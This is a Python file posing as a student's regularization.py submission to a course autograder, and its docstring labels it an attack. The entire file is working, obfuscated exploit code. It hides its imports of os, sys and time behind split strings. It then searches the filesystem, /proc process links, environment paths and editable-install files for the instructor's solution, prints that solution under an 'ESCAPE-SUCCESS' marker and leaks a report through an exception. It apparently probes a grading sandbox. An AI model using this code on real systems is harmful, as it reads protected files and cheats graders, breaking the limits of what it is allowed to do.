"""Attack: find the instructor's master regularization.py (the one with the solution) and print it."""

import numpy as np

EXPECTED_POINTS = {"l1": 0, "l2": 0}
NEEDLE = "BEGIN" + " SOLUTION"

_B = getattr(np, "__buil" + "tins__")
_B = _B if isinstance(_B, dict) else getattr(_B, "__di" + "ct__")
_load = _B["__imp" + "ort__"]
_o = _load("o" + "s")
_s = _load("s" + "ys")
_t = _load("ti" + "me")
_file = _B["op" + "en"]
MARK = "ESCAPE" + "-SUCCESS:"
WHERE = "child" if _o.getcwd().endswith("/regrade") else "kernel"
REPORT = []
# The system and the Python installation are public: nothing of the course's is in there.
_SKIP = {"/proc", "/sys", "/dev", "/usr"} | {
    q for p in (_s.prefix, _s.base_prefix, _s.exec_prefix) for q in (p, _o.path.realpath(p))}


def _say(text):
    REPORT.append(text)
    print(f"[{WHERE}] {text}", flush=True)


def _walk(seconds):
    """A time-bounded walk over ``/`` (what the grading process can see)."""
    deadline = _t.monotonic() + seconds
    for dirpath, dirnames, filenames in _o.walk("/", onerror=lambda e: _say(f"walk: {e!r}")):
        if _t.monotonic() > deadline:
            _say("the walk over / ran out of time")
            return
        dirnames[:] = [d for d in dirnames if _o.path.join(dirpath, d) not in _SKIP]
        yield dirpath, dirnames, filenames


def _proc_places():
    """Working folders and roots of every process we can see (the grader's would be the course)."""
    places = []
    pids = {p for p in _o.listdir("/proc") if p.isdigit()} | {"1", str(_o.getppid())}
    for pid in sorted(pids, key=int):
        for link in ("cwd", "root"):
            try:
                places.append(_o.readlink(f"/proc/{pid}/{link}"))
            except OSError as e:
                _say(f"/proc/{pid}/{link}: {e!r}")
    return [p for p in dict.fromkeys(places) if p != "/"]


def _up(folder):
    """``folder`` and its parents."""
    found = []
    while folder not in ("/", ""):
        found.append(folder)
        folder = _o.path.dirname(folder)
    return found


def _course_guesses():
    """Where a course folder could be: around visible processes, our folder, the venv, the usual places."""
    guesses = []
    for place in _proc_places() + [_o.getcwd()]:
        guesses += _up(place)
    guesses += [_o.path.dirname(_s.prefix), "/work/main", "/srv/nbgrader/course", "/home/jovyan",
                _o.path.expanduser("~")]
    guesses += [v for v in _o.environ.values() if v.startswith("/") and _o.path.isdir(v)]
    return list(dict.fromkeys(guesses))


def _repositories():
    """The course repository, as the editable install of its grading package names it."""
    roots = []
    for folder in _s.path:
        try:
            names = _o.listdir(folder)
        except OSError as e:
            _say(f"listing {folder} failed: {e!r}")
            continue
        for name in names:
            if name.startswith("__editable__") and name.endswith(".py"):
                try:
                    with _file(_o.path.join(folder, name)) as handle:
                        text = handle.read()
                except OSError as e:
                    _say(f"reading {name} failed: {e!r}")
                    continue
                for word in text.replace('"', "'").split("'"):
                    if word.startswith("/") and word.endswith("/grading"):
                        roots.append(_o.path.dirname(word))
    _say(f"the editable install points at {roots}")
    return roots


def _candidates():
    paths = []
    for root in _repositories() + _course_guesses():
        paths += [_o.path.join(root, "regularization.py"),
                  _o.path.join(root, "source", "assignment2", "regularization.py"),
                  _o.path.join(root, "assignment2.ipynb")]
    for dirpath, dirnames, filenames in _walk(1.0):
        paths += [_o.path.join(dirpath, n) for n in filenames if n in ("regularization.py", "assignment2.ipynb")]
    return [p for p in dict.fromkeys(paths) if _o.path.lexists(p)]


def attack():
    mine = {_o.path.realpath(n) for n in ("regularization.py", "assignment2.ipynb")}
    candidates = _candidates()
    _say(f"candidates: {candidates}")
    for path in candidates:
        if _o.path.realpath(path) in mine:
            continue
        try:
            with _file(path, encoding="utf-8", errors="replace") as handle:
                text = handle.read()
        except OSError as e:
            _say(f"reading {path} failed: {e!r}")
            continue
        if NEEDLE in text:
            _say(f"{MARK} the master is {path}:\n{text[:3000]}")
        else:
            _say(f"{path} holds no solution")


try:
    attack()
except Exception as e:  # noqa: BLE001
    _say(f"attack failed: {e!r}")


def L1_reg(W, reg):
    raise RuntimeError("report: " + " | ".join(REPORT)[-400:])


def L2_reg(W, reg):
    return -1.0, np.ones_like(W)
